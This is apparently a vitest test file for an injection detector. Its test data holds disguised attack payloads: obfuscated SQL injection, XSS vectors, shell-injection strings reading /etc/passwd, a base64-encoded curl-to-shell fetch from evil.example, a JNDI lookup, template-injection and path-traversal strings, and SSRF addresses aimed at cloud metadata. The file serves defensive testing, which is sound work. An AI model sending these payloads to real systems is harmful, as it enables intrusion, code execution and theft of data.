import { describe, expect, it } from 'vitest';

import { readValue } from '../web/read-value.js';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const UNION = "' union select user(),2 from users-- -";
const json = (value: unknown): string => JSON.stringify(value);

/** Disguises of values that act, by what they must be read as at least. docs/adversary.md tells the aims. */
const SQL: Readonly<Record<string, string>> = {
  'comments for blanks': "1'/**/oR/**/'1'/**/=/**/'1",
  'comments that MySQL runs': '1 /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3',
  'a comment in a comment': "1'/*/**/or/*x*/1=1-- ",
  'vertical tabs and form feeds': "1'\x0bor\x0c1=1--\x0b",
  'blanks that break no line': "1'\u00a0or\u00a01=1#",
  'the byte A0': "1'\xa0union\xa0select\xa01,2",
  'brackets for blanks': "'or(1)=(1)and('a')=('a",
  'quoted names for blanks': "1'or`id`is not null or'1",
  'signs for words': "1'||1=1#",
  'seven rounds of percent': '1%2525252525252527 or 1=1',
  'a backslash escape of the quote': '\\u0027 or 1=1-- -',
  'form encoding once more': '7+union%20all+select+user(),2',
  'a wide quote': '\uff07 or 1=1-- -',
  'a NUL as percent': "1'%00 or 1=1--",
  'NULs between words': "1'\0or\0'1'='1",
  'JSON in JSON': json({ a: { b: json({ q: "' or 1=1-- -" }) } }),
  'lists 60,000 deep': `${'['.repeat(60_000)}' or 1=1-- -${']'.repeat(60_000)}`,
  'base64 of base64': base64(base64(UNION)),
  'base64 in lines': base64(UNION).replace(/(.{20})/g, '$1\n'),
  'a number that ends in a word': '1e0union select 1,2',
  'a delay in a condition': 'if(1=1,sleep(5),0)',
  'a bracketed selection': '(select*from(select(sleep(5)))a)',
  'literals in dollars': '1 or $$a$$=$$a$$',
  'literals in tagged dollars': '1 or $x$a$x$ like $x$a$x$',
  'code of characters': "'||chr(65)||'",
  'line ends behind a remark': "1'--\nor\n1=1",
  '40,000 words before and behind': `${'a '.repeat(20_000)}' or 1=1-- -${' b'.repeat(20_000)}`,
  '60,000 blanks within': `1' ${' '.repeat(60_000)}or 1=1`,
};

const MARKUP: Readonly<Record<string, string>> = {
  'a slash for a blank': '<svg/onload=alert(1)>',
  'a tab within a scheme': '<a href="java\tscript:alert(1)">x',
  'a letter as an entity': "<a href='&#106;avascript:alert(1)'>",
  'NULs in a name': '<scr\0ipt>alert(1)</scr\0ipt>',
  'wide brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  'an element that does not end': '<img src=x onerror=alert(1) ',
  'form feeds': '<img\x0csrc=x\x0conerror=alert(1)>',
  'out of an attribute': '" autofocus onfocus=alert(1) x="',
  'out of a string of a script': "';alert(document.cookie)//",
  'a document in an attribute': "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'>",
  'a made-up element': '<x onpointerenter=alert(1)>',
  'JSON escapes': '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  'base64 without padding': Buffer.from('<script>alert(1)</script>?>?>').toString('base64url'),
};

const ACTS: Readonly<Record<string, readonly [kind: string, value: string]>> = {
  'a blank as IFS': ['command', ';cat${IFS}/etc/passwd'],
  'quotes in a name': ['command', ";w'h'o'am'i"],
  'backslashes in a name': ['command', ';w\\h\\o\\a\\m\\i'],
  'carets in a name': ['command', '&w^h^o^a^m^i'],
  'nothing in a name': ['command', ';wh$@oami'],
  'braces for blanks': ['command', ';{cat,/etc/passwd}'],
  'wildcards for a path': ['command', '|/???/??t /???/p??s??'],
  'a string for a file': ['command', ';bash<<<id'],
  'a line end as percent': ['command', 'x%0d%0aid'],
  'a command as base64': ['command', base64(';curl http://evil.example/x|sh')],
  'letters of JNDI apart': ['template', '${${lower:j}${::-n}di:${lower:l}dap://x/a}'],
  'hidden underscores': ['template', "{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f'] }}"],
  'folders that a filter leaves': ['traversal', '....//....//etc/passwd'],
  'overlong bytes': ['traversal', '..%c0%af..%c0%afetc/passwd'],
  'wide dots': ['traversal', '\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd'],
  'a path parameter': ['traversal', '/..;/..;/manager/html'],
  'an address as one number': ['address', 'http://2852039166/latest'],
  'an address in octal': ['address', 'http://0251.0376.0251.0376/'],
  'an address within IPv6': ['address', 'http://[::ffff:169.254.169.254]/'],
  'a user before the address': ['address', 'http://good.example@127.0.0.1:6379/'],
};

/** What costs more than its length, if anything does. */
const COSTLY: readonly string[] = ['${', "'(", '/*', '\\u0027', '<a ', '{{', '\'"', ';', '../', '&#', '%25', '<<<'];

describe('disguised values', () => {
  it.each(Object.entries(SQL))('reads SQL: %s', (_, value) => {
    expect(readValue(value).sql.grade).toBeGreaterThanOrEqual(3);
  });

  it.each(Object.entries(MARKUP))('reads markup: %s', (_, value) => {
    expect(readValue(value).markup.grade).toBe(3);
  });

  it.each(Object.entries(ACTS))('reads what acts: %s', (_, [kind, value]) => {
    expect(readValue(value).acts).toContainEqual(expect.objectContaining({ kind, grade: 3 }));
  });

  it.each([
    'x^2 & y^2 are squares; see the table',
    'margin: 0; /* the left one */ top: 0',
    'see /help & /?page=2',
    'Hello\nthis is what we had\n<<<<<<< HEAD\nid\n',
    'what the quick brown fox said to the lazy dog',
    '/docs/faq; /what?',
    'the formulas $$a=b$$ or $$c=d$$ hold where $$x$$ and $$y$$ do',
    'it costs 5$$ or 10$$, and that is $$$',
  ])('leaves alone: %s', (value) => {
    const { sql, acts } = readValue(value);
    expect(acts.filter(({ grade }) => grade === 3)).toEqual([]);
    expect(sql.grade).toBeLessThan(3);
  });

  it.each(COSTLY)('reads 60 KB of %j in bounded time', (part) => {
    const fromMs = performance.now();
    readValue(part.repeat(60_000 / part.length));
    expect(performance.now() - fromMs).toBeLessThan(2_000);
  });
});
